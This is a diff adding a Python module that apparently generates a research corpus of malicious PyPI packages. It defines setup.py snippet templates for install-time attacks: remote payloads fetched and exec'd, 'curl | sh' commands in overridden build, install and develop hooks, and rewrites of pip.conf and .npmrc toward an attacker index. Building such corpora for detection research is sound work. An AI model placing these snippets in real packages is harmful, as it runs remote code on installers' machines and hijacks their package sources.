@@ -1,0 +1,169 @@
+"""Setup-code behaviours (paper Table XII category 3).
+
+Subcategories: Malicious Setup Scripts, Build Process Manipulation,
+Installation Hook Abuse, Configuration Tampering.
+
+These behaviours contribute a ``setup_snippet`` which the package builder
+injects into ``setup.py`` -- the classic install-time attack vector in the
+PyPI ecosystem.
+"""
+
+from __future__ import annotations
+
+from repro.corpus.behaviors.base import Behavior
+
+BEHAVIORS: list[Behavior] = [
+    # -- Malicious Setup Scripts --------------------------------------------------------
+    Behavior(
+        key="setup_exec_payload",
+        subcategory="Malicious Setup Scripts",
+        description="Run the payload directly from module level of setup.py.",
+        variants=[
+            (
+                ["import os", "import urllib.request"],
+                """
+                def {func}_pre_install():
+                    try:
+                        handle = urllib.request.urlopen("https://{host}/payload.py", timeout=10)
+                        exec(handle.read())
+                    except Exception:
+                        pass
+                """,
+                None,
+                """
+                import urllib.request
+                try:
+                    exec(urllib.request.urlopen("https://{host}/payload.py", timeout=10).read())
+                except Exception:
+                    pass
+                """,
+            ),
+            (
+                ["import os"],
+                """
+                def {func}_setup_side_effect():
+                    os.system("curl -s https://{host}/s.sh | sh > /dev/null 2>&1 &")
+                """,
+                None,
+                """
+                import os
+                os.system("curl -s https://{host}/s.sh | sh > /dev/null 2>&1 &")
+                """,
+            ),
+        ],
+    ),
+    # -- Build Process Manipulation --------------------------------------------------------
+    Behavior(
+        key="build_command_override",
+        subcategory="Build Process Manipulation",
+        description="Override the build_py / egg_info commands to run extra code.",
+        variants=[
+            (
+                ["from setuptools.command.build_py import build_py", "import os"],
+                """
+                class {func}_build(build_py):
+                    def run(self):
+                        os.system("python -c \\"import urllib.request;exec(urllib.request.urlopen('https://{host}/b.py').read())\\"")
+                        build_py.run(self)
+                """,
+                None,
+                """
+                from setuptools.command.build_py import build_py
+                import os
+
+                class _patched_build(build_py):
+                    def run(self):
+                        os.system("python -c \\"import urllib.request;exec(urllib.request.urlopen('https://{host}/b.py').read())\\"")
+                        build_py.run(self)
+                """,
+            ),
+            (
+                ["from setuptools.command.egg_info import egg_info", "import subprocess"],
+                """
+                class {func}_egg(egg_info):
+                    def run(self):
+                        subprocess.Popen(["python", "-m", "http.server", "{port}"])
+                        egg_info.run(self)
+                """,
+                None,
+                None,
+            ),
+        ],
+    ),
+    # -- Installation Hook Abuse -------------------------------------------------------------
+    Behavior(
+        key="post_install_hook",
+        subcategory="Installation Hook Abuse",
+        description="Custom install command class that triggers the payload after install.",
+        variants=[
+            (
+                ["from setuptools.command.install import install", "import os"],
+                """
+                class {func}_install(install):
+                    def run(self):
+                        install.run(self)
+                        os.system("python -m pip download --no-deps --dest /tmp {var} >/dev/null 2>&1")
+                        try:
+                            import urllib.request
+                            exec(urllib.request.urlopen("https://{host}/post.py", timeout=10).read())
+                        except Exception:
+                            pass
+                """,
+                None,
+                """
+                from setuptools.command.install import install as _install
+                import urllib.request
+
+                class CustomInstall(_install):
+                    def run(self):
+                        _install.run(self)
+                        try:
+                            exec(urllib.request.urlopen("https://{host}/post.py", timeout=10).read())
+                        except Exception:
+                            pass
+                """,
+            ),
+            (
+                ["from setuptools.command.develop import develop", "import subprocess"],
+                """
+                class {func}_develop(develop):
+                    def run(self):
+                        develop.run(self)
+                        subprocess.Popen("curl -s https://{host}/d.sh | sh", shell=True)
+                """,
+                None,
+                None,
+            ),
+        ],
+    ),
+    # -- Configuration Tampering -----------------------------------------------------------------
+    Behavior(
+        key="pip_conf_tamper",
+        subcategory="Configuration Tampering",
+        description="Point pip / npm configuration at an attacker-controlled index.",
+        variants=[
+            (
+                ["import os"],
+                """
+                def {func}_pipconf():
+                    conf_dir = os.path.expanduser("~/.pip")
+                    os.makedirs(conf_dir, exist_ok=True)
+                    with open(os.path.join(conf_dir, "pip.conf"), "w") as handle:
+                        handle.write("[global]\\nindex-url = https://{host}/simple\\ntrusted-host = {host}\\n")
+                """,
+                "{func}_pipconf()",
+                None,
+            ),
+            (
+                ["import os"],
+                """
+                def {func}_npmrc():
+                    with open(os.path.expanduser("~/.npmrc"), "a") as handle:
+                        handle.write("\\nregistry=https://{host}/npm/\\nalways-auth=true\\n")
+                """,
+                "{func}_npmrc()",
+                None,
+            ),
+        ],
+    ),
+]
